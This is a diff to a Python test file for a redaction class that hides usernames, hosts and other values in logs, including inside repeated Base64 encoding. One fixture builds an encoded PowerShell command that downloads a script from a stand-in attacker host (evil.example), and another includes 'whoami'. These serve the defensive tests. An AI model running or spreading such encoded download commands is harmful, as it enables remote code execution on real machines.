@@ -2,6 +2,7 @@
 
 import json
 import random
+import time
 from base64 import b64encode
 
 import pytest
@@ -153,6 +154,26 @@ def test_a_pair_of_name_and_value_is_the_field_that_it_names() -> None:
 def test_text_in_base64_that_holds_nothing_of_ours_stays() -> None:
     plain = "powershell -enc " + b64encode("iwr https://evil.example/a.ps1".encode("utf-16-le")).decode()
     assert Hidden(plain).hide(plain) == plain
+
+
+@pytest.mark.parametrize("inner", ["grüße an jdoe auf 10.1.2.3, bitte", "whoami; svc_backup was here today"])
+@pytest.mark.parametrize("layers", [1, 2, 3, 4])
+def test_text_in_base64_is_hidden_with_what_it_holds(inner: str, layers: int) -> None:
+    """Other letters beside it, a name that a field gave, and Base64 within it do not let it out."""
+    text = inner.encode()
+    for _ in range(layers):
+        text = b64encode(text)
+    hidden = Hidden({"TargetUserName": "svc_backup"})
+    assert hidden.hide(f"-enc {text.decode()}") == "-enc TEXT_1"
+
+
+def test_base64_in_many_layers_costs_what_its_length_does() -> None:
+    text = b"the quick brown fox jumps over"
+    for _ in range(20):
+        text = b64encode(text)
+    begun = time.monotonic()
+    assert Hidden().hide(text.decode()) == "TEXT_1"
+    assert time.monotonic() - begun < 2
 
 
 def test_well_known_names_and_public_hosts_are_no_secret() -> None:
